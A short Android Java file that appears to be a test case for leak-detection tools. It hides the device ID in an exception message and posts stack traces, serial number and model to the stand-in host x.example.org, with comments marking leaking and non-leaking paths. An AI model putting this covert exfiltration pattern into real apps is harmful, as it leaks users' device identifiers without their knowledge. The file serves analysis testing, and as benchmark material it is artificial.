package stealers;

import android.app.Activity;
import android.content.*;
import android.os.*;
import android.telephony.TelephonyManager;

import java.io.*;
import java.net.*;
import java.util.*;

/** A handler of errors tells more than the error. */
public class Crash extends Activity implements Thread.UncaughtExceptionHandler {
    private final Map<String, String> infos = new LinkedHashMap<String, String>();
    private Thread.UncaughtExceptionHandler before;

    static class Refused extends RuntimeException {
        Refused(String what) {
            super("refused: " + what);
        }
    }

    @Override
    protected void onCreate(Bundle b) {
        super.onCreate(b);
        before = Thread.getDefaultUncaughtExceptionHandler();
        Thread.setDefaultUncaughtExceptionHandler(this);
        try {
            check(((TelephonyManager) getSystemService("phone")).getDeviceId());
        } catch (Refused e) {
            report(e);
        }
        try {
            check("nothing");
        } catch (Refused e) {
            harmless(e);
        }
    }

    static void check(String id) {
        if (id.length() != 15) throw new Refused(id);
    }

    @Override
    public void uncaughtException(Thread t, Throwable e) {
        infos.put("model", Build.MODEL);
        infos.put("serial", Build.SERIAL);
        StringWriter s = new StringWriter();
        PrintWriter w = new PrintWriter(s);
        for (String k : infos.keySet()) w.println(k + "=" + infos.get(k));
        e.printStackTrace(w);
        w.close();
        try {
            URLConnection c = new URL("http://x.example.org/crash").openConnection();
            c.setDoOutput(true);
            c.getOutputStream().write(s.toString().getBytes()); // leak
        } catch (IOException x) {
            before.uncaughtException(t, e);
        }
    }

    static void report(Exception e) {
        StringWriter s = new StringWriter();
        e.printStackTrace(new PrintWriter(s));
        try {
            URLConnection c = new URL("http://x.example.org/error").openConnection();
            c.setDoOutput(true);
            new DataOutputStream(c.getOutputStream()).writeBytes(s.toString()); // leak
        } catch (IOException x) {
        }
    }

    static void harmless(Exception e) {
        try {
            URLConnection c = new URL("http://x.example.org/error").openConnection();
            c.setDoOutput(true);
            new DataOutputStream(c.getOutputStream()).writeBytes(e.getMessage()); // no leak
        } catch (IOException x) {
        }
    }
}
